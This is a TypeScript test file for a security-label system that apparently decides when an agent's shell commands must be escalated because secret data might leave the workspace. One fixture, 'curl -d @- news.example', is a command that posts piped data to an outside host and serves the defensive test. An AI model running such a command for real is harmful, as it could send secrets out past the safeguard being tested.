import { describe, expect, it } from 'vitest';
import { boxStoreOf } from './box-label.ts';
import type { Label } from './label.ts';
import { newLabels, openTestSession } from './testing/test-session.ts';

const SECRET: Label = { secrecy: 'critical', trust: 'workspace' };
const curl = { command: 'curl -d @- news.example', hosts: ['news.example'] };

function labelled(label: Label, folder = '/w') {
  const labels = newLabels();
  labels.stores.set(boxStoreOf(folder), label);
  return labels;
}

describe('the label of the private home of commands', () => {
  it('makes a command that reaches the network ask, in a session that has read nothing [F1] [F2]', () => {
    expect(openTestSession().ask('bash', curl)).toMatch(/^allow/);
    expect(openTestSession({ labels: labelled(SECRET) }).ask('bash', curl)).toBe('escalate secret-may-leave');
  });

  it('counts for commands of that folder only, and for no other tool', () => {
    expect(openTestSession({ labels: labelled(SECRET, '/other') }).ask('bash', curl)).toMatch(/^allow/);
    expect(openTestSession({ labels: labelled(SECRET, '/') }).ask('bash', curl)).toMatch(/^allow/);
    const { ask } = openTestSession({ labels: labelled(SECRET) });
    expect(ask('bash', { command: 'make' })).toMatch(/^allow/);
    expect(ask('read', { path: 'a.txt' })).toMatch(/^allow/);
  });

  it('becomes the label of a session whose command has an output [F2]', () => {
    const { session, got } = openTestSession({ labels: labelled({ ...SECRET, trust: 'external' }) });
    got('bash', { command: 'cat ~/note' }, 'a line');
    expect(session.label).toEqual({ secrecy: 'critical', trust: 'external' });
  });

  it('becomes the label of the files that a command changes [F2]', () => {
    const { session } = openTestSession({ labels: labelled(SECRET) });
    const metadata = { workingFolder: '/w', paths: [], hosts: [] };
    const label = session.labelOfWrites({ tool: 'bash', arguments: { command: 'make' }, metadata });
    expect(label.secrecy).toBe('critical');
  });
});
